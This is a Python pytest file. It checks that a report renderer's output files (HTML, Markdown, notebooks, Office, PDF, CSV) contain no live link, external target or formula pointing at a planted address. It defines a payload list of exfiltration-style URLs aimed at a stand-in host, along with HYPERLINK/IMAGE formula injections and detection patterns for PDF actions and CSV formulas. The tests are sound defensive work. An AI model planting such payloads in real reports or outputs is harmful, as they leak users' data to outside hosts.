"""No file that we make leads anywhere: an address in data, titles or names of others is text in every one of them."""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser

import openpyxl
import pytest
from format_cases import CHARTS, png
from fpdf import FPDF
from markdown_it import MarkdownIt
from pptx import Presentation
from pptx.util import Inches
from report_cases import case

from core.formats import FORMATS
from core.steps import (
    CellRan,
    ChartData,
    ColumnNote,
    FigureSource,
    FileAbstract,
    FileProblem,
    SeriesData,
    SourcePlace,
    TableData,
    TableNote,
)
from core.values import StoredFile
from workers.delivery.reports import render_report
from workers.delivery.reports.formats.registry import files_in
from workers.delivery.reports.pack import PackInput, pack
from workers.delivery.reports.values import ReportInput

BARE = "https://evil.example/x.png?d=SECRET"
PLANTS = {
    "a picture": f"![x]({BARE})",
    "a link": f"[x]({BARE})",
    "an address": BARE,
    "an address in angles": f"<{BARE}>",
    "a reference": f"[x][1]\n\n[1]: {BARE}",
    "markup": f'<a href="{BARE}">x</a><img src="{BARE}">',
    "a formula": f'=HYPERLINK("{BARE}","x")',
    "a formula with a picture": f'=IMAGE("{BARE}")',
    "an address without a scheme": "www.evil.example/x.png?d=SECRET",
}
MARKDOWN = MarkdownIt("commonmark")
PLAIN = re.compile(r"(?:https?://|www\.)evil")
"""What GitHub and Jupyter link although it is plain text."""


def planted(plant: str) -> ReportInput:
    """A turn in which everything that others name or write has the address."""
    figure = StoredFile(name=f"{plant[:40]}.png", mimetype="image/png", size=9, sha256="a" * 64)
    series = SeriesData(kind="line", name=plant, points=((plant, 1), ("b", 2)), total_points=2)
    chart = ChartData(figure=figure.name, title=plant, x=plant, y=plant, series=(series,))
    table = TableData(columns=(plant, "n"), dtypes=("str", "int64"), rows=((plant, 1),), total_rows=1, total_columns=2)
    cell = CellRan(
        call_id="1",
        cell_id="c1",
        title=plant,
        code=f"# {BARE}\n1",
        status="ok",
        stdout=plant,
        result=plant,
        figures=(figure,),
        files=(StoredFile(name=plant, mimetype="text/csv", size=9, sha256="c" * 64),),
        charts=(chart, *CHARTS),
        tables=(table,),
        rejected=(FileProblem(name=plant, why=plant),),
    )
    failed = cell.model_copy(update={"cell_id": "c2", "status": "error", "error_name": plant, "error": plant})
    timed_out = cell.model_copy(update={"cell_id": "c3", "status": "timeout"})
    shell = cell.model_copy(update={"cell_id": "c4", "language": "bash", "code": f"echo '{plant}'"})
    return case(
        f"The answer. {plant}\n\n## {plant}\n\n| {plant} | n |\n|---|---|\n| {plant} | 1 |\n\n- {plant}\n\n{plant}",
        question="How much?",
        asker=plant,
        model=plant,
        cells=(cell, failed, timed_out, shell),
        earlier=(cell.model_copy(update={"cell_id": "c0"}),),
        files=(
            FileAbstract(
                path=plant,
                format="xlsx",
                size=9,
                sha256="d" * 64,
                tables=tuple(
                    TableNote(name=name, rows=1, columns=(ColumnNote(name=plant, dtype="str"),))
                    for name in (plant, "b")
                ),
            ),
        ),
        problems=(FileProblem(name=plant, why=plant),),
        sources=(
            FigureSource(
                figure=plant,
                state="sourced",
                places=(SourcePlace(what="table", cell_id="c1", line=1, about=plant, value=plant),),
            ),
        ),
        pictures={figure.sha256: png()},
    )


def files_of(given: ReportInput) -> dict[str, bytes]:
    """Every file that we make of a turn, those in the pack too."""
    report = render_report(given)
    made = {file.name: file.data for name in FORMATS for file in files_in(name, given)}
    left_out = {cell.title: "e" * 64 for cell in given.cells}
    packed = zipfile.ZipFile(io.BytesIO(pack(PackInput(given, report.files, left_out=left_out))))
    return made | {name: packed.read(name) for name in packed.namelist()}


class _Targets(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("href", "src", "srcset", "action", "data")]
        self.found += [value or "" for name, value in attrs if name == "style" and "url(" in (value or "")]


def in_html(text: str) -> list[str]:
    parser = _Targets()
    parser.feed(text)
    return parser.found


def in_markdown(text: str) -> Iterator[str]:
    for token in MARKDOWN.parse(text):
        for each in token.children or ():
            yield str(each.attrGet("href") or each.attrGet("src") or "")
            if each.type == "html_inline":
                yield from in_html(each.content)
        if token.type == "html_block":
            yield from in_html(token.content)
    code = r"(?ms)^(`{3,}|~{3,}).*?^\1`*$|(`+)(?!`).*?(?<!`)\2(?!`)"
    yield from PLAIN.findall(re.sub(code, "", text))


def in_notebook(text: str) -> Iterator[str]:
    for cell in json.loads(text)["cells"]:
        if cell["cell_type"] == "markdown":
            yield from in_markdown("".join(cell["source"]))
        for output in cell.get("outputs", ()):
            assert set(output.get("data", {})) <= {"text/plain", "image/png"}


def in_office(data: bytes) -> Iterator[str]:
    """Targets outside, links of text and cells, and formulas."""
    parts = zipfile.ZipFile(io.BytesIO(data))
    for name in parts.namelist():
        if name.endswith((".xml", ".rels")):
            text = parts.read(name).decode()
            yield from re.findall(r'TargetMode="External"[^>]*|<[^>]*TargetMode="External"', text)
            yield from re.findall(r"<(?:\w+:)?(?:hyperlink|hlinkClick|hlinkHover|webPublishItem)\b[^>]*", text)
            yield from re.findall(r"<f>(?!\w+!)[^<]*(?:HYPERLINK|IMAGE|WEBSERVICE)[^<]*", text)


def in_pdf(data: bytes) -> Iterator[str]:
    """Links, and what is done when it is opened. The library writes such things outside of its streams."""
    told = re.sub(rb"stream\r?\n.*?endstream", b"", data, flags=re.S)
    for name in (rb"/URI", rb"/Annots", rb"/Launch", rb"/GoToR", rb"/JavaScript", rb"/OpenAction\s*<<", rb"/AA\b"):
        yield from (found.decode("latin-1") for found in re.findall(name + rb".{0,60}", told))


def in_csv(text: str) -> Iterator[str]:
    yield from (cell for cell in re.split(r'[,\n]"?', text) if cell.startswith(("=", "+", "-", "@")))


READERS: Mapping[str, object] = {
    "html": lambda data: in_html(data.decode()),
    "md": lambda data: in_markdown(data.decode()),
    "ipynb": lambda data: in_notebook(data.decode()),
    "xlsx": in_office,
    "pptx": in_office,
    "pdf": in_pdf,
    "csv": lambda data: in_csv(data.decode("utf-8-sig")),
}


def active(name: str, data: bytes) -> list[str]:
    """What of a file leads to the planted address, or would be computed."""
    reads = READERS.get(name.rpartition(".")[2])
    strict = name.endswith(("csv", "pdf"))
    return [found for found in reads(data) if "evil" in found or strict] if callable(reads) else []


@pytest.mark.parametrize("plant", PLANTS)
def test_no_file_that_we_make_leads_to_an_address_of_others(plant: str) -> None:
    files = files_of(planted(PLANTS[plant]))
    endings = {name.rpartition(".")[2] for name in files}
    assert set(READERS) <= endings
    found = {name: leads for name, data in files.items() if (leads := active(name, data))}
    assert found == {}


def test_office_files_have_no_target_outside_whatever_they_hold() -> None:
    files = files_of(planted(BARE))
    for name in ("report.pptx", "tables.xlsx"):
        assert list(in_office(files[name])) == []
    assert list(in_pdf(files["report.pdf"])) == []
    book = zipfile.ZipFile(io.BytesIO(files["tables.xlsx"]))
    assert any(b"evil.example" in book.read(name) for name in book.namelist()), "it is not there at all"


def test_a_live_link_in_each_kind_of_file_would_be_seen() -> None:
    book, slides, page = io.BytesIO(), io.BytesIO(), FPDF()
    made = openpyxl.Workbook()
    made.worksheets[0]["A1"].hyperlink = BARE
    made.save(book)
    deck = Presentation()
    frame = deck.slides.add_slide(deck.slide_layouts[5]).shapes.add_textbox(0, 0, Inches(1), Inches(1)).text_frame
    run = frame.paragraphs[0].add_run()
    run.text, run.hyperlink.address = "x", BARE
    deck.save(slides)
    page.add_page()
    page.set_font("helvetica")
    page.write(5, "x", link=BARE)
    for name, data in {
        "a.xlsx": book.getvalue(),
        "a.pptx": slides.getvalue(),
        "a.pdf": bytes(page.output()),
        "a.md": f"see {BARE}".encode(),
        "b.md": f"![x]({BARE})".encode(),
        "c.md": f"`{BARE}` <img src='{BARE}'>".encode(),
        "a.html": f'<img src="{BARE}">'.encode(),
        "a.csv": b'a,=IMAGE("x")\n',
    }.items():
        assert active(name, data), name
    assert active("d.md", f"`{BARE}`\n\n```\n{BARE}\n```\n".encode()) == []
